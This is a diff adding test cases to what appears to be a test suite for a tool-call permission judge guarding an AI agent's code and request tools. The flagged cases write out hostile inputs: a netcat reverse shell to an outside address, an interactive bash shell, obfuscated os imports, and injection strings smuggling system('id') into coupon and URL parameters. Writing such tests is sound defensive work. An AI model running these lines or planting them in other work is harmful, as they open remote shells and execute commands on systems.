@@ -275,3 +275,26 @@ describe('a Python script running a fixed program', () => {
     expect(judge('execute_python', args).decision).not.toBe('allow');
   });
 });
+
+describe('code a code tool runs, and what a code search looks for', () => {
+  it.each([
+    ['a package installed from a notebook', 'python', { code: "import os\nos.system('pip install requests')" }],
+    ['eval of a literal', 'python', { code: "result = eval('2+3')\nprint(result)" }],
+    ['git through os.system', 'code_interpreter', { code: "import os\nos.system('git status')" }],
+    ['a search for subprocess.run(', 'search_code', { query: 'subprocess.run(' }],
+    ['a grep for os.system(', 'grep', { pattern: "os.system('" }],
+  ])('allows %s', (_label, tool, args) => {
+    expect(judge(tool, args).decision).toBe('allow');
+  });
+
+  it.each([
+    ['a shell through os.system', 'python', { code: "import os\nos.system('/bin/bash -i')" }],
+    ['a network client through os.system', 'code_interpreter', { code: "import os\nos.system('nc 203.0.113.9 4444 -e /bin/sh')" }],
+    ['os imported by name', 'python', { code: "__import__('os').system('id')" }],
+    ['a command string given to a shell', 'python', { code: "import subprocess\nsubprocess.run('ls /tmp', shell=True)" }],
+    ['a coupon code breaking out into a call', 'redeem_coupon', { code: "SAVE10'; system('id') #" }],
+    ['a code parameter of a request', 'http_request', { url: 'https://shop.example.com/redeem', params: { code: "x'; system('id'); '" } }],
+  ])('still flags %s', (_label, tool, args) => {
+    expect(judge(tool, args).decision).not.toBe('allow');
+  });
+});
